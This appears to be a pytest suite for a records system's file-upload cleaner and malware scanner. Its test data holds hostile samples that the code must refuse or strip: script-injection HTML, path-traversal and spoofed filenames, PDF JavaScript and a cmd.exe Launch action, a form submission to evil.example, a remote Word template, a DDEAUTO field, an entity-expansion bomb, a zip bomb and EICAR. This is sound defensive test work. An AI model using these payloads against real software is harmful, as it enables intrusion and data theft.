"""Files as they come in: what a hostile one can do here, which is nothing, and what an ordinary one loses, which is only
what nobody meant to send."""

import base64
import io
import shutil
import struct
import zipfile
import zlib
from datetime import timedelta

import pikepdf
import pytest
from PIL import Image

from alongside.jobs.hourly.files import scan_files_again
from alongside.jobs.minutely.files import look_at_files
from alongside.jobs.running import BY_ITSELF
from alongside.record import models
from alongside.record.access import NotFound, ReasonNeeded
from alongside.record.acting import Mistaken, When, new_ref
from alongside.record.actions import correction, files, files_kinds, files_scanning, recording
from alongside.record.actions.documents import File
from alongside.record.actions.recording import ChildThere, Entry
from alongside.record.queries.desk import documents, recording as queries

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf(*, pages=1, **more):
    """A small PDF with these pages, to which `more` may be done before it is saved."""
    with pikepdf.new() as document:
        for _ in range(pages):
            document.add_blank_page()
        for act in more.values():
            act(document)
        held = io.BytesIO()
        document.save(held)
    return held.getvalue()


def photograph(size=(40, 30), *, format="JPEG", gps=True, turned=False):
    """A photograph as a phone takes it: with the place in it, and lying on its side."""
    exif = Image.Exif()
    if turned:
        exif[0x0112] = 6
    exif[0x010F] = "Secret Phone"
    if gps:
        exif.get_ifd(0x8825).update({1: "N", 2: (53.0, 47.0, 12.5), 3: "W", 4: (1.0, 32.0, 44.0)})
    held = io.BytesIO()
    Image.new("RGB", size, (180, 40, 40)).save(held, format, exif=exif)
    return held.getvalue()


def png_that_says(width, height):
    """A PNG of a few bytes whose header promises a picture of this size."""

    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
WORDS = f"<w:document {NS}><w:body><w:p><w:r><w:t>Dear Sam</w:t></w:r></w:p></w:body></w:document>".encode()


def docx(**parts):
    """A Word file with these parts beside the usual ones; names with "__" for "/"."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, body in {"[Content_Types].xml": TYPES, "word/document.xml": WORDS, **parts}.items():
            packed.writestr(name, body)
    return held.getvalue()


def kind(content, name="file"):
    return files_kinds.kind_of(name, content).mime


def cleaned(content):
    return files.clean(kind(content), content)


# What is taken at all


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("photo.jpg", b"<html><script>alert(1)</script>", "not a kind of file"),
        (
            "drawing.png",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "not a kind",
        ),
        ("letter.docx", b"MZ\x90\x00" + b"\x00" * 80, "not a kind of file"),
        ("empty.pdf", b"", "is empty"),
        ("archive.docx", b"PK\x03\x04 but nothing follows", "damaged"),
        ("page.pdf", b"GIF89a" + b"\x00" * 40, "not a kind of file"),
        ("big.png", png_that_says(50_000, 50_000), "larger picture"),
        ("wide.png", png_that_says(9000, 9000), "larger picture"),
        ("bomb.docx", docx(**{"word/media/a.txt": b"0" * 60_000_000}), "grows too large"),
        ("macro.docx", docx(**{"word/vbaProject.bin": b"x"}), "macros"),
        ("long.pdf", pdf(pages=501), "more pages"),
        ("big.txt", b"a" * (10 * 1024 * 1024 + 1), "larger than 10 MB"),
    ],
)
def test_what_is_not_taken_is_refused_in_one_sentence_that_names_the_file(name, content, says):
    with pytest.raises(Mistaken, match=says) as refused:
        files_kinds.kind_of(name, content)
    assert refused.value.field == "files"
    assert refused.value.message.startswith(f"“{name}” ")
    assert refused.value.message.count("“") == 1


def test_a_pdf_behind_a_password_is_refused_while_it_is_at_hand():
    held = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.save(held, encryption=pikepdf.Encryption(owner="o", user="u"))
    with pytest.raises(Mistaken, match="needs a password"):
        kind(held.getvalue())


def test_what_a_file_is_is_told_by_its_bytes():
    assert kind(photograph(), "report.docx") == "image/jpeg"
    assert kind(pdf(), "holiday.jpg") == "application/pdf"
    assert kind(docx(), "x.pdf") == files_kinds.DOCX
    assert (
        kind(b"From: a@b\r\nTo: c@d\r\nDate: Fri, 4 Sep 2026 10:00:00 +0100\r\nSubject: Hi\r\n\r\nHi")
        == "message/rfc822"
    )
    assert kind("Zażółć gęślą jaźń".encode()) == "text/plain"


def test_the_council_says_which_kinds_it_takes(settings):
    settings.FILES_TAKEN = ["pdf", "text"]
    assert files_kinds.taken_words() == "PDF or plain text"
    with pytest.raises(Mistaken, match="Use PDF or plain text"):
        kind(photograph())


@pytest.mark.parametrize(
    ("name", "plain"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\C:\\windows\\win.ini", "win.ini"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ('a"; filename="evil.html', "a; filename=evil.html"),
        ("line\r\nbreak.pdf", "linebreak.pdf"),
        ("....", "file"),
        ("Ünïcödé Mädchen 王小明.jpg", "Ünïcödé Mädchen 王小明.jpg"),
    ],
)
def test_a_name_is_only_a_name(name, plain):
    assert files_kinds.plain_name(name) == plain


def test_a_name_of_three_hundred_characters_is_shortened_and_keeps_its_ending():
    short = files_kinds.plain_name("a" * 300 + ".pdf")
    assert len(short) <= 120
    assert short.endswith(".pdf")


@pytest.mark.parametrize(
    ("name", "mime", "given"),
    [
        ("photo.html", "image/jpeg", "photo.html.jpg"),
        ("IMG_1.HEIC", "image/jpeg", "IMG_1.jpg"),
        ("letter.pdf", "application/pdf", "letter.pdf"),
        ("notes", "text/plain", "notes.txt"),
        ("run.exe", "application/pdf", "run.exe.pdf"),
    ],
)
def test_a_file_is_given_out_under_an_ending_of_its_own_kind(name, mime, given):
    assert files_kinds.name_for(name, mime) == given


# What is made of it


def test_a_photograph_tells_neither_where_nor_when_it_was_taken_and_stands_upright():
    made = cleaned(photograph(turned=True))
    assert (made.fit, made.kind) == ("made_safe", "image/jpeg")
    assert set(made.done) == {"place", "hidden", "upright"}
    assert b"Secret Phone" not in made.content
    with Image.open(io.BytesIO(made.content)) as picture:
        assert picture.size == (30, 40)
        assert not picture.getexif()


def test_what_was_appended_to_a_photograph_is_gone():
    both = photograph() + docx(**{"evil.html": b"<script>alert(1)</script>"})
    made = cleaned(both)
    assert made.fit == "made_safe"
    assert b"PK\x03\x04" not in made.content
    assert not zipfile.is_zipfile(io.BytesIO(made.content))


# 64 by 48 points, red, with a place and the name of a phone; made for this test with libheif's heif-enc.
HEIC = base64.b64decode("""
AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAeFtZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAA
AA5waXRtAAAAAAACAAAAEGlkYXQAAAAAAEAAMAAAAExpbG9jAQAAAERAAAMAAQAAAAAAAAIFAAEAAAAAAAAAGQACAAEAAAAAAAAA
AQAAAAAAAAAIAAMAAAAAAAACHgABAAAAAAAAAG4AAABNaWluZgAAAAAAAwAAABVpbmZlAgAAAQABAABodmMxAAAAABVpbmZlAgAA
AAACAABncmlkAAAAABVpbmZlAgAAAQADAABFeGlmAAAAANVpcHJwAAAAs2lwY28AAABzaHZjQwEDcAAAAAAAAAAAAB7wAPz9+PgA
AA8DIAABABhAAQwB//8DcAAAAwCQAAADAAADAB66AkAhAAEAJ0IBAQNwAAADAJAAAAMAAAMAHqAggQWW6uSmubAgAAADACAAAAMA
ISIAAQAGRAHBc8CJAAAAFGlzcGUAAAAAAAAAQAAAAEAAAAAUaXNwZQAAAAAAAABAAAAAMAAAABBwaXhpAAAAAAMICAgAAAAaaXBt
YQAAAAAAAAACAAECgQIAAgIDhAAAAChpcmVmAAAAAAAAAA5kaW1nAAIAAQABAAAADmNkc2MAAwABAAIAAACPbWRhdAAAABUoAa8L
YPXlg6//8kP35QCDlFVP9Q4AAAAATU0AKgAAAAgAAgEPAAIAAAANAAAAJoglAAQAAAABAAAANAAAAABTZWNyZXQgUGhvbmUAAAAC
AAEAAgAAAAJOAAAAAAIABQAAAAMAAABSAAAAAAAAADUAAAABAAAALwAAAAEAAAAZAAAAAg==
""")


def test_a_photograph_of_a_phone_becomes_one_that_every_browser_shows():
    made = cleaned(HEIC)
    assert (made.fit, made.kind) == ("made_safe", "image/jpeg")
    assert {"place", "hidden", "to_jpeg"} <= set(made.done)
    assert b"Secret Phone" not in made.content
    with Image.open(io.BytesIO(made.content)) as picture:
        assert picture.size == (64, 48)
        red, green, blue = picture.getpixel((30, 20))
        assert red > 150 > 90 > max(green, blue)


def test_a_picture_that_is_cut_short_or_lies_about_its_size_is_refused_and_harms_nobody():
    assert cleaned(photograph((400, 300))[:900]).fit == "refused"
    # Past the glance at the door, as one that came by another way would be.
    made = files.clean("image/png", png_that_says(50_000, 50_000))
    assert (made.fit, made.why) == ("refused", "pixels")


def _js(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('x')")
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(
            Names=["a", pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('named')")]
        )
    )


def _links(document):
    page = document.pages[0]
    page.obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))
    mark = document.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 10, 10],
            A=pikepdf.Dictionary(
                S=pikepdf.Name.URI,
                URI=pikepdf.String("https://track.example/?who=amara"),
                Next=pikepdf.Array([pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example")]),
            ),
        )
    )
    page.obj.Annots = document.make_indirect(pikepdf.Array([mark]))


def _inside(document):
    document.attachments["virus.exe"] = b"MZ"


def _form(document):
    document.Root.AcroForm = pikepdf.Dictionary(
        Fields=[], XFA=document.make_stream(b"<xdp><script>1</script></xdp>")
    )


def test_a_pdf_loses_all_that_acts_and_keeps_its_pages():
    made = cleaned(pdf(pages=3, a=_js, b=_links, c=_inside, d=_form))
    assert made.fit == "made_safe"
    assert {"scripts", "acts", "links", "files", "form"} <= set(made.done)
    for sign in (
        b"JavaScript",
        b"/JS",
        b"Launch",
        b"cmd.exe",
        b"virus.exe",
        b"XFA",
        b"SubmitForm",
        b"evil.example",
    ):
        with pikepdf.open(io.BytesIO(made.content)) as document:
            held = io.BytesIO()
            document.save(
                held,
                object_stream_mode=pikepdf.ObjectStreamMode.disable,
                stream_decode_level=pikepdf.StreamDecodeLevel.all,
            )
            assert sign not in held.getvalue(), sign
            assert len(document.pages) == 3
            (mark,) = document.pages[0].obj.Annots
            assert "/A" not in mark
            assert str(mark.Contents) == "https://track.example/?who=amara"


def test_a_pdf_that_is_also_a_web_page_is_only_a_pdf_afterwards():
    both = pdf().replace(b"%%EOF", b"%%EOF\n<html><script>alert(1)</script></html>")
    made = cleaned(both)
    assert made.fit == "made_safe"
    assert b"<script>" not in made.content


def test_a_pdf_of_nothing_is_refused_as_damaged():
    assert files.clean("application/pdf", b"%PDF-1.7\nnothing else").why == "broken"


RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
ODR = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def test_a_word_file_keeps_its_words_and_fetches_nothing():
    rels = (
        f'<Relationships xmlns="{RELS}">'
        f'<Relationship Id="r1" Type="{ODR}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
        f'<Relationship Id="r2" Type="{ODR}/image" Target="https://track.example/p.png" TargetMode="External"/>'
        f'<Relationship Id="r3" Type="{ODR}/hyperlink" Target="https://www.gov.uk/" TargetMode="External"/>'
        f'<Relationship Id="r4" Type="{ODR}/hyperlink" Target="file://server/share" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    settings = f'<w:settings {NS} xmlns:r="{ODR}"><w:attachedTemplate r:id="r1"/></w:settings>'.encode()
    made = cleaned(docx(**{"word/_rels/document.xml.rels": rels, "word/settings.xml": settings}))
    assert (made.fit, made.kind) == ("made_safe", files_kinds.DOCX)
    assert set(made.done) == {"outside", "links"}
    with zipfile.ZipFile(io.BytesIO(made.content)) as packed:
        assert packed.read("word/document.xml") == WORDS
        left = b"".join(packed.read(name) for name in packed.namelist())
    assert b"evil.example" not in left
    assert b"track.example" not in left
    assert b"file://" not in left
    assert b"https://www.gov.uk/" in left


DDE = f"<w:document {NS}><w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd.exe</w:instrText></w:r></w:p></w:document>"
ENTITIES = b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'


@pytest.mark.parametrize(
    ("part", "body", "why"),
    [
        ("word/document.xml", DDE, "macros"),
        ("word/embeddings/oleObject1.bin", b"x", "inside"),
        ("word/activeX/activeX1.xml", b"<x/>", "inside"),
        (
            "[Content_Types].xml",
            TYPES.replace(
                b"/>",
                b'><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
            ),
            "macros",
        ),
        ("word/footnotes.xml", ENTITIES, "broken"),
        ("../../../tmp/evil.xml", b"<x/>", "broken"),
    ],
)
def test_a_word_file_that_acts_is_refused(part, body, why):
    made = files.clean(files_kinds.DOCX, docx(**{part: body}))
    assert (made.fit, made.why) == ("refused", why)


def test_two_parts_of_one_name_are_one_for_the_checker_and_one_for_the_reader_and_refused():
    held = io.BytesIO(docx())
    with zipfile.ZipFile(held, "a") as packed, pytest.warns(UserWarning, match="Duplicate"):
        packed.writestr("word/document.xml", WORDS)
    assert files.clean(files_kinds.DOCX, held.getvalue()).why == "broken"


def test_a_reader_that_is_broken_or_eats_memory_ends_alone(monkeypatch, tmp_path):
    greedy = tmp_path / "greedy.py"
    greedy.write_text(
        "import resource; resource.setrlimit(resource.RLIMIT_AS, (300_000_000,)*2); b'x' * 10**9"
    )
    monkeypatch.setattr(files, "CLEANING", greedy)
    assert files.clean("application/pdf", b"%PDF-1.7").why == "too_much"
    sleepy = tmp_path / "sleepy.py"
    sleepy.write_text("import time; time.sleep(30)")
    monkeypatch.setattr(files, "CLEANING", sleepy)
    with pytest.raises(files.NotInTime):
        files.clean("application/pdf", b"%PDF-1.7", seconds=0.3, waits=True)
    assert files.clean("application/pdf", b"%PDF-1.7", seconds=0.3).why == "too_much"


# On the record


@pytest.fixture
def coles(story):
    story.on("Fri 4 September 2026").school_refers("Amara Cole")
    story.becomes_a_referral()
    story.on("Mon 7 September 2026").manager_decides()
    story.allocated_to("alice")
    return story.on("Thu 10 September 2026", "16:00")


def attach(story, *contents, name="photo.jpg", people=("Amara Cole",)):
    entry = Entry(
        kind="note",
        when=When.moment(story.now),
        account="Amara's mother sent this.",
        children=tuple(ChildThere(person=story.people[one]) for one in people),
        files=tuple(File(name=name, content=content) for content in contents),
    )
    return recording.record_entry(entry, document=new_ref(), by=story.cast.alice, now=story.now)


def cards(story, document):
    return queries.entry(story.cast.alice, document, now=story.now).files


def test_a_file_is_in_quarantine_until_it_was_looked_at_and_then_opens_as_it_was_made(coles):
    taken = photograph()
    document = attach(coles, taken)
    (card,) = cards(coles, document)
    assert not card.opens
    assert "being checked" in card.words
    assert documents.file(coles.cast.alice, card.ref, now=coles.now).content is None

    look_at_files(coles.now)
    (card,) = cards(coles, document)
    assert card.opens
    assert card.words.startswith("Not scanned for malware: no scanner is installed.")
    assert "where and when it was taken is removed" in card.words
    given = documents.file(coles.cast.alice, card.ref, now=coles.now)
    assert given.content != taken
    kept = models.Attachment.objects.get(pk=card.ref)
    assert bytes(kept.content.content) == taken  # the original stays, for nobody to read, with its digest
    assert kept.digest != kept.checks.get().digest
    assert kept.checks.get().recorded_by == BY_ITSELF.user
    # Looked at once.
    look_at_files(coles.now + timedelta(minutes=1))
    assert models.FileCheck.objects.count() == 1


def test_a_small_file_is_looked_at_while_the_page_is_made(coles):
    document = attach(coles, photograph(), b"A line of text.")
    files.look_over(document, by=coles.cast.alice, now=coles.now)
    assert [card.opens for card in cards(coles, document)] == [True, True]


def test_where_the_council_says_so_nothing_unscanned_opens(coles, settings):
    settings.OPEN_FILES_NOT_SCANNED = False
    document = attach(coles, photograph())
    look_at_files(coles.now)
    (card,) = cards(coles, document)
    assert not card.opens
    assert card.words.startswith("Not scanned for malware: no scanner is installed.")
    assert documents.file(coles.cast.alice, card.ref, now=coles.now).content is None


def test_what_cannot_be_made_safe_opens_only_when_it_was_scanned(coles):
    mail = b"From: a@b\r\nDate: Fri, 4 Sep 2026 10:00:00 +0100\r\nSubject: Hi\r\n\r\n<script>1</script>"
    document = attach(coles, mail, name="mail.eml")
    look_at_files(coles.now)
    (card,) = cards(coles, document)
    assert (card.kind, card.opens) == ("email", False)
    assert "once it has been scanned" in card.words


def test_whoever_attached_a_file_that_does_not_open_hears_of_it(coles):
    document = attach(coles, b"%PDF-1.7\nnothing else", name="report.pdf")
    look_at_files(coles.now)
    (card,) = cards(coles, document)
    assert not card.opens
    assert "is damaged" in card.words
    told = models.Task.objects.get(kind="file_not_opened")
    assert told.for_user == coles.cast.alice.user
    assert "report" not in told.words  # nothing about a child in a list of tasks


def test_another_may_not_open_the_file_of_a_child_they_do_not_work_with(coles):
    document = attach(coles, photograph())
    look_at_files(coles.now)
    (card,) = cards(coles, document)
    with pytest.raises(ReasonNeeded):
        documents.file(coles.cast.charlie, card.ref, now=coles.now)
    with pytest.raises(NotFound):
        documents.file(coles.cast.alice, new_ref(), now=coles.now)


def test_a_file_written_on_the_wrong_child_moves_and_is_looked_at_again(coles):
    ben = coles.known("Ben Stone")
    document = attach(coles, photograph())
    look_at_files(coles.now)
    (card,) = cards(coles, document)
    correction.wrong_child(
        document,
        wrong=coles.people["Amara Cole"],
        right=ben,
        reasons="Another family's photograph.",
        by=coles.cast.ines,
        now=coles.now,
    )
    with pytest.raises(NotFound):
        documents.file(coles.cast.alice, card.ref, now=coles.now)
    moved = models.Attachment.objects.exclude(pk=card.ref).get()
    assert moved.checks.count() == 0  # in quarantine there too, until it has been looked at
    look_at_files(coles.now)
    assert moved.checks.get().fit == "made_safe"


# A scanner


@pytest.fixture
def clamscan(settings, tmp_path):
    """ClamAV's own program with a signature or two made here: nobody needs the real ones to know that it is asked."""
    program = shutil.which("clamscan")
    if program is None:
        pytest.skip("ClamAV is not installed on this machine")
    (tmp_path / "test.ndb").write_text(f"Test.Eicar:0:*:{EICAR[:40].hex()}\n")
    settings.CLAMSCAN, settings.CLAMAV_DATABASE = program, str(tmp_path)


def test_clamscan_finds_what_it_has_a_signature_for_and_nothing_else(clamscan):
    assert "Eicar" in files_scanning.scan(EICAR, seconds=60).found
    clean = files_scanning.scan(b"A line of text.", seconds=60)
    assert (clean.found, clean.by.startswith("ClamAV")) == ("", True)


class Clamd:
    """A socket that speaks clamd's protocol, and finds what holds the word EICAR."""

    signatures, word = b"27800", b"EICAR"

    def __init__(self, path):
        import socket
        import threading

        self.line = socket.socket(socket.AF_UNIX)
        self.line.bind(str(path))
        self.line.listen()
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                asked, _ = self.line.accept()
            except OSError:
                return
            with asked:
                command = b""
                while not command.endswith(b"\0"):
                    command += asked.recv(1)
                if command == b"zVERSION\0":
                    asked.sendall(b"ClamAV 1.4.6/" + self.signatures + b"/Thu Sep 10 09:00:00 2026\0")
                    continue
                held = b""
                while size := int.from_bytes(self._exactly(asked, 4), "big"):
                    held += self._exactly(asked, size)
                asked.sendall(
                    b"stream: Eicar-Test-Signature FOUND\0" if self.word in held else b"stream: OK\0"
                )

    def _exactly(self, asked, size):
        held = b""
        while len(held) < size:
            held += asked.recv(size - len(held))
        return held


@pytest.fixture
def clamd(settings, tmp_path):
    path = tmp_path / "clamd.sock"
    settings.CLAMAV_SOCKET = str(path)
    server = Clamd(path)
    yield server
    server.line.close()


def test_malware_is_kept_in_quarantine_and_named(coles, clamd):
    document = attach(coles, EICAR, b"A line of text." * 10_000, name="note.txt")
    look_at_files(coles.now)
    bad, good = sorted(cards(coles, document), key=lambda card: card.opens)
    assert not bad.opens
    assert "holds malware" in bad.words
    assert documents.file(coles.cast.alice, bad.ref, now=coles.now).content is None
    assert good.opens
    assert good.check.scan_words == "Scanned for malware: none found (ClamAV 1.4.6, signatures 27800)."
    check = models.FileCheck.objects.get(attachment=bad.ref)
    assert (check.scan, check.fit, check.why) == ("infected", "refused", "infected")
    assert "Eicar-Test-Signature" in check.scanner


def test_what_was_kept_while_there_was_no_scanner_is_scanned_once_there_is_one(coles, tmp_path, settings):
    document = attach(coles, EICAR, name="note.txt")
    look_at_files(coles.now)
    assert cards(coles, document)[0].opens
    path = tmp_path / "clamd.sock"
    server, settings.CLAMAV_SOCKET = Clamd(path), str(path)
    look_at_files(coles.now + timedelta(days=1))
    server.line.close()
    (card,) = cards(coles, document)
    assert not card.opens
    assert "holds malware" in card.words


def test_a_clean_file_is_scanned_again_when_signatures_are_new_and_opens_no_more_once_it_is_known(
    coles, clamd
):
    """Friday 4 September 2026: a PDF is clean as far as anybody knows. On Monday the scanner knows better of another file."""
    document = attach(coles, pdf(), b"Worm of the week", name="note.txt")
    look_at_files(coles.now)
    given = {
        card.ref: documents.file(coles.cast.alice, card.ref, now=coles.now).content
        for card in cards(coles, document)
    }
    later = coles.now + timedelta(days=3)
    scan_files_again(later)
    assert models.FileCheck.objects.count() == 2, "the same signatures say the same"
    clamd.signatures, clamd.word = b"27803", b"Worm"
    scan_files_again(later)
    scan_files_again(later + timedelta(hours=1))
    assert models.FileCheck.objects.count() == 4, "once"
    good, bad = sorted(cards(coles, document), key=lambda card: not card.opens)
    assert (good.opens, bad.opens) == (True, False)
    assert "signatures 27803" in good.words
    assert "holds malware" in bad.words
    assert documents.file(coles.cast.alice, good.ref, now=later).content == given[good.ref]
    assert documents.file(coles.cast.alice, bad.ref, now=later).content is None
    assert models.Task.objects.filter(kind="file_not_clean", for_role="information_officer").count() == 1
    assert models.Task.objects.filter(kind="file_not_opened", for_user=coles.cast.alice.user).exists()
    scan_files_again(later + timedelta(days=2))
    assert models.FileCheck.objects.count() == 4, "signatures have not changed since"


def test_a_scanner_that_does_not_answer_leaves_the_file_in_quarantine(coles, settings, tmp_path):
    settings.CLAMAV_SOCKET = str(tmp_path / "nobody.sock")
    document = attach(coles, b"A line of text.", name="note.txt")
    files.look_over(document, by=coles.cast.alice, now=coles.now)
    with pytest.raises(files_scanning.Unavailable):
        look_at_files(coles.now)
    assert not cards(coles, document)[0].opens
